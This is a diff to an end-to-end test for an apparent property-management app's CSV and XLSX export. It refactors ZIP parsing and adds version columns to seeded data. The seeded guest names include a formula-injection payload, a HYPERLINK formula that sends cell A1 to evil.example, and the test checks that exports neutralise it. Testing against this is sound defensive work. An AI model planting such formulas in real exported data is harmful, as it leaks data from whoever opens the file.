@@ -1,10 +1,10 @@
 import assert from 'node:assert/strict'
 import { readFile } from 'node:fs/promises'
 import { before, type TestContext, test } from 'node:test'
-import { inflateRawSync } from 'node:zlib'
 import type { Page } from 'playwright-core'
 import { ALL_RIGHTS } from '../../src/rights/rights.ts'
 import { createRole } from '../../src/users/administration.ts'
+import { unzip } from '../unzip.ts'
 import { buildWorld, grant, inNewProperty, type World } from '../world.ts'
 import { type App, openApp } from './app.ts'
 import { measureKeys } from './measure.ts'
@@ -41,15 +41,15 @@ const EVIL = '=HYPERLINK("http://evil.example?x="&A1,"zeta um")'
 async function fill({ database }: World, propertyId: string, count: number): Promise<void> {
   const { pool } = database
   await pool.query(
-    `insert into accounts (property_id, id, kind, status, name, opened_on)
-      select $1, 'acc_' || lpad(n::text, 8, '0'), 'guest', 'active',
+    `insert into accounts (property_id, id, kind, status, version, name, opened_on)
+      select $1, 'acc_' || lpad(n::text, 8, '0'), 'guest', 'active', 1,
         case n when 3 then $3 when 4 then 'zeta dois' when 5 then '@zeta três' else 'Hóspede ' || lpad(n::text, 5, '0') end,
         '2026-03-10' from generate_series(1, $2::int) n`,
     [propertyId, count, EVIL],
   )
   await pool.query(
-    `insert into folios (property_id, id, account_id, number, kind, state, opened_on, opened_at)
-      select $1, 'fol_' || lpad(n::text, 8, '0'), 'acc_' || lpad(n::text, 8, '0'), 1, 'standard', 'open',
+    `insert into folios (property_id, id, account_id, number, kind, state, version, opened_on, opened_at)
+      select $1, 'fol_' || lpad(n::text, 8, '0'), 'acc_' || lpad(n::text, 8, '0'), 1, 'standard', 'open', 1,
         date '2026-03-10' - (n * 13 % 20 + n % 15 * 20), '2026-03-10T12:00:00Z' from generate_series(1, $2::int) n`,
     [propertyId, count],
   )
@@ -195,7 +195,7 @@ test('what is filtered is exported, whole, and no name in it is run', async (t) 
   assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example`), csv)
   assert.ok(csv.includes(`'@zeta três`), csv)
   assert.ok(!/(^|;)"?[=@+]/m.test(csv), csv)
-  const sheet = entriesOf(await download(page, 'XLSX'))
+  const sheet = Object.fromEntries(unzip(await download(page, 'XLSX')))
   const texts = Object.values(sheet).join('\n')
   assert.ok(texts.includes('HYPERLINK(') && texts.includes('zeta dois'), Object.keys(sheet).join())
   // In a workbook a text is a text; only <f> is run.
@@ -225,21 +225,4 @@ async function download(page: Page, kind: string): Promise<Buffer> {
   const file = await coming
   assert.match(file.suggestedFilename(), new RegExp(`\\.${kind.toLowerCase()}$`))
   return readFile((await file.path())!)
-}
-
-/** The XML files of a workbook, which is a ZIP archive, by the directory at its end. */
-function entriesOf(zip: Buffer): Readonly<Record<string, string>> {
-  const end = zip.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
-  let at = zip.readUInt32LE(end + 16)
-  const found: Record<string, string> = {}
-  for (let left = zip.readUInt16LE(end + 10); left > 0; left--) {
-    const [size, nameLength] = [zip.readUInt32LE(at + 20), zip.readUInt16LE(at + 28)]
-    const name = zip.toString('utf8', at + 46, at + 46 + nameLength)
-    const local = zip.readUInt32LE(at + 42)
-    const data = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
-    const packed = zip.subarray(data, data + size)
-    found[name] = (zip.readUInt16LE(at + 10) === 8 ? inflateRawSync(packed) : packed).toString('utf8')
-    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
-  }
-  return found
 }
